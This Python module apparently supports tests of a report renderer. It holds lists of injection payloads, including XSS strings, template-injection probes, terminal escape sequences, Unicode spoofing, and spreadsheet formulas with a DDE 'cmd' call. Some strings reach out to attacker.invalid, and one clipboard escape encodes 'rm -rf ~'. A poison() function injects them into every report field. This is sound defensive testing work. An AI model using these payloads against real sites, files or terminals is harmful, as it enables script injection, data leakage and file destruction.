"""Strings that an attacker would put where the corpus or the plan has a say, and a report that is full of them."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle
from typing import Any

MARKUP = [
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src='http://attacker.invalid/p.png'>",
    "<svg onload=window.hit=1>",
    "</svg><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</desc><script>window.hit=1</script>",
    "</text><a href='javascript:window.hit=1'>x</a>",
    "</style><script>window.hit=1</script>",
    "<style>*{display:none}</style>",
    "<style>@import 'http://attacker.invalid/a.css';</style>",
    "<link rel=stylesheet href=//attacker.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
    "<base href='http://attacker.invalid/'>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.hit=1</script>'></object>",
    "<embed src=http://attacker.invalid/x.swf>",
    "<form action=http://attacker.invalid><input name=q><button>go</button></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1><summary>x</summary></details>",
    "<body onload=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mi xlink:href='javascript:window.hit=1'>x</mi></math>",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<a href='javascript:window.hit=1'>click</a>",
    "</td></tr></table><h1>Certified: ×0.00</h1>",
    "</bdi></span><b>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;",
    "\u226ascript\u226bwindow.hit=1",
    "＜script＞window.hit=1＜/script＞",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
]
ATTRIBUTES = [
    '" onmouseover="window.hit=1',
    "' onfocus='window.hit=1' autofocus='",
    '"><script>window.hit=1</script>',
    "` onerror=window.hit=1 ",
    '" style="background:url(http://attacker.invalid/x)',
    "x:expression(window.hit=1)",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "http://attacker.invalid/?leak",
    "//attacker.invalid/x.js",
]
TEMPLATES = [
    "{{7*7}}",
    "{% raw %}",
    "{# x #}",
    "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%s%s%n",
    "} body { display: none } {",
    "*/ } * { background: url(//attacker.invalid) } /*",
    "url(javascript:window.hit=1)",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://attacker.invalid\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;owned\x9c",
    "\x08\x08\x08overwritten",
    "a\rb",
    "a\nb\tc\x0bd\x0ce",
    "\x00nul\x7fdel\x85nel",
    "[bold red]markup[/bold red]",
    "[link=http://attacker.invalid]x[/link]",
    ":smiley:",
]
UNICODE = [
    "\u202egnp.elif",
    "\u2066\u2067isolate\u2069",
    "\u200f\u200erl",
    "zero\u200bwidth\u200djoin\ufeff",
    "\u2028line\u2029paragraph",
    "Z" + "\u0335\u0322\u031b" * 60,
    "\U000e0041\U000e0042tags",
    "\ufdd0\uffff",
    "\ud800lone\udfff",
    "\u3164\u115f\u2800",
    "а-cyrillic-а",
    "\ue000private",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
]
FORMULAS = ['=HYPERLINK("http://attacker.invalid","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=1"]
SIZES = ["x" * 100_000, "a b " * 20_000, "<b>" * 30_000, "\u202e" * 5_000, "W" * 400, " ", ""]
PAYLOADS = [*MARKUP, *ATTRIBUTES, *TEMPLATES, *TERMINAL, *UNICODE, *FORMULAS, *SIZES]

#: Keys of report.json that are ours; every other key, and every string, comes from somewhere else.
_KEEP = {"any", "documents", "words", "bytes", "source", "language", "length", "removed", "rewritten", "tagged"}


def poison(report: dict[str, Any], names: set[str], payloads: list[str]) -> dict[str, Any]:
    """Returns a report with a payload behind every string and every key that is a name.

    Args:
        report: The content of report.json.
        names: Names of interventions, rules, categories, classifiers, sources, languages, lengths and packages.
        payloads: Payloads, used in turn.
    """
    supply = cycle(payloads)
    renamed = {name: f"{name}{next(supply)}" for name in sorted(names - _KEEP)}
    taint = _taint(renamed, supply)
    poisoned: dict[str, Any] = _walk(report, renamed, taint)
    poisoned["provenance"]["plan"] = "\n".join(map(taint, report["provenance"]["plan"].splitlines()))
    return poisoned


def _taint(renamed: dict[str, str], supply: Iterator[str]) -> Callable[[str], str]:
    return lambda text: renamed.get(text) or (text if text in _KEEP else f"{text}{next(supply)}")


def _walk(value: Any, renamed: dict[str, str], taint: Callable[[str], str]) -> Any:
    if isinstance(value, dict):
        return {renamed.get(key, key): _walk(item, renamed, taint) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [_walk(item, renamed, taint) for item in value]
    return taint(value) if isinstance(value, str) else value


def names(report: dict[str, Any]) -> set[str]:
    """Returns the names in a report that the corpus or the plan chose."""
    found: set[str] = set(report["interventions"]) | set(report["provenance"]["bundles"])
    found |= set(report["provenance"]["packages"])
    measures = report["measures"]
    for part in measures["volume"]["interventions"].values():
        found |= set(part["rules"]) | {name for by in part["by"].values() for name in by}
        found |= {name for outcome in part["categories"].values() for name in outcome}
    found |= set(measures["agreement"]["pairs"]) | set(measures["coverage"]["languages"])
    return found | set(measures["coverage"]["classifiers"])
